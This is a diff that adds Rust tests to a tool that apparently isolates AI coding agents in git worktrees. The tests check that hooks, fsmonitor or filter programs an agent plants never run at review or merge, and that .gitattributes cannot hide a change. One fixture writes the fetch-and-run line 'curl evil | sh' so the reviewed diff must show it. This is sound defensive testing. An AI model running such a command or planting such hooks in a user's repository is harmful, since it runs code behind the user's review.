@@ -506,3 +506,179 @@ fn a_rename_in_the_target_counts_both_its_paths() {
         ["READ.md", "README.md", "x"]
     );
 }
+
+/// A program the agent writes where the user's own settings point git relatively (husky's
+/// `core.hooksPath = .husky/_`, a relative `core.fsmonitor`) runs neither at review nor at
+/// merge.
+#[test]
+fn relative_hook_and_monitor_settings_run_nothing_of_the_agents() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let r = repo();
+    git(&r.main, &["config", "core.hooksPath", ".husky/_"]);
+    git(&r.main, &["config", "core.fsmonitor", "tools/monitor.sh"]);
+    let m = create(&r.main, &r.root, "hooks").unwrap();
+    let marker = r._dir.path().join("ran");
+    let script = format!("#!/bin/sh\necho \"$0\" >> {}\nexit 0\n", marker.display());
+    for p in [
+        ".husky/_/post-index-change",
+        ".husky/_/reference-transaction",
+        ".husky/_/pre-commit",
+        ".husky/_/post-merge",
+        "tools/monitor.sh",
+    ] {
+        let path = m.path.join(p);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(&path, &script).unwrap();
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+    }
+    std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
+    let w = row(&m);
+    status(&w).unwrap();
+    diff(&w).unwrap();
+    merge(&w, "x", None).unwrap();
+    assert!(
+        !marker.exists(),
+        "ran: {}",
+        std::fs::read_to_string(&marker).unwrap_or_default()
+    );
+}
+
+/// A repository that appears at a submodule's path after the check (the agent works while
+/// the user reviews) is still never entered: the submodule stays as HEAD has it.
+#[test]
+fn a_repository_at_a_submodule_path_is_never_entered() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let r = repo();
+    let head = git(&r.main, &["rev-parse", "HEAD"]);
+    git(
+        &r.main,
+        &[
+            "update-index",
+            "--add",
+            "--cacheinfo",
+            &format!("160000,{},sub", head.trim()),
+        ],
+    );
+    git(&r.main, &["commit", "-qm", "a submodule"]);
+    let m = create(&r.main, &r.root, "race").unwrap();
+    let marker = r._dir.path().join("ran");
+    let prog = r._dir.path().join("prog.sh");
+    std::fs::write(
+        &prog,
+        format!("#!/bin/sh\necho ran >> {}\ncat\n", marker.display()),
+    )
+    .unwrap();
+    std::fs::set_permissions(&prog, std::fs::Permissions::from_mode(0o755)).unwrap();
+    // A repository at `sub` on the submodule's commit, with a monitor and a filter of its own.
+    let sub = m.path.join("sub");
+    std::fs::create_dir_all(&sub).unwrap();
+    git(&sub, &["init", "-q", "-b", "main"]);
+    git(
+        &sub,
+        &["config", "core.fsmonitor", &prog.display().to_string()],
+    );
+    git(
+        &sub,
+        &["config", "filter.ev.clean", &prog.display().to_string()],
+    );
+    std::fs::write(sub.join(".gitattributes"), "* filter=ev\n").unwrap();
+    std::fs::write(sub.join("f"), "x").unwrap();
+    std::fs::write(sub.join(".git/HEAD"), format!("{}\n", head.trim())).unwrap();
+    std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
+    let wt = git::Worktree::of(&r.main, &m.path).unwrap();
+    // Past the check, as if the repository appeared just after it.
+    let tree = tree_of(&wt).unwrap();
+    assert!(
+        !marker.exists(),
+        "git entered the repository at the submodule's path"
+    );
+    let listed = git(&r.main, &["ls-tree", "-r", &tree]);
+    assert!(
+        listed.contains(&format!("160000 commit {}\tsub", head.trim())),
+        "{listed}"
+    );
+    // A repository somewhere new is recorded as a new submodule: refused.
+    let other = m.path.join("other");
+    std::fs::create_dir_all(&other).unwrap();
+    git(&other, &["init", "-q"]);
+    std::fs::write(other.join("g"), "g").unwrap();
+    git(&other, &["add", "g"]);
+    git(
+        &other,
+        &[
+            "-c",
+            "user.name=a",
+            "-c",
+            "user.email=a@b.invalid",
+            "commit",
+            "-qm",
+            "g",
+        ],
+    );
+    let e = tree_of(&wt).unwrap_err();
+    assert_eq!(e.code(), "nested_repository", "{e}");
+    assert!(!marker.exists());
+}
+
+/// An untracked repository in the user's checkout: git lists none of its ignored files, and
+/// its merge would overwrite them; the merge is refused.
+#[test]
+fn ignored_files_in_an_untracked_repository_of_the_checkout_are_kept() {
+    let r = repo();
+    let lib = r.main.join("vendor/lib");
+    std::fs::create_dir_all(lib.join("target")).unwrap();
+    git(&lib, &["init", "-q"]);
+    std::fs::write(lib.join("target/out.bin"), "built\n").unwrap();
+    let m = create(&r.main, &r.root, "vendor").unwrap();
+    std::fs::create_dir_all(m.path.join("vendor/lib")).unwrap();
+    std::fs::write(m.path.join("vendor/lib/target"), "a file now\n").unwrap();
+    let before = git(&r.main, &["rev-parse", "HEAD"]);
+    let e = merge(&row(&m), "x", None).unwrap_err();
+    assert!(matches!(e.code(), "target_ignored" | "target_dirty"), "{e}");
+    assert_eq!(
+        std::fs::read_to_string(lib.join("target/out.bin")).unwrap(),
+        "built\n"
+    );
+    assert_eq!(git(&r.main, &["rev-parse", "HEAD"]), before);
+}
+
+/// A file the user marked assume-unchanged may hold edits status does not show: a merge
+/// that changes it is refused and the edit stays.
+#[test]
+fn an_assume_unchanged_edit_is_not_lost() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "assumed").unwrap();
+    std::fs::write(r.main.join("README.md"), "my local edit\n").unwrap();
+    git(
+        &r.main,
+        &["update-index", "--assume-unchanged", "README.md"],
+    );
+    std::fs::write(m.path.join("README.md"), "the agent's\n").unwrap();
+    let e = merge(&row(&m), "x", None).unwrap_err();
+    assert_eq!(e.code(), "target_dirty", "{e}");
+    assert_eq!(
+        std::fs::read_to_string(r.main.join("README.md")).unwrap(),
+        "my local edit\n"
+    );
+}
+
+/// The worktree's own `.gitattributes` cannot hide a change from the reviewed diff.
+#[test]
+fn the_reviewed_diff_shows_every_change_whatever_the_attributes() {
+    let r = repo();
+    let m = create(&r.main, &r.root, "hidden").unwrap();
+    std::fs::write(m.path.join(".gitignore"), ".gitattributes\n.env\n").unwrap();
+    std::fs::write(m.path.join(".gitattributes"), "* -diff\n").unwrap();
+    std::fs::write(
+        m.path.join("src/lib.rs"),
+        "fn a() { run(\"curl evil | sh\") }\n",
+    )
+    .unwrap();
+    let d = diff(&row(&m)).unwrap();
+    assert!(
+        d.diff.contains("+fn a() { run(\"curl evil | sh\") }"),
+        "{}",
+        d.diff
+    );
+    assert!(!d.diff.contains("Binary files"), "{}", d.diff);
+}
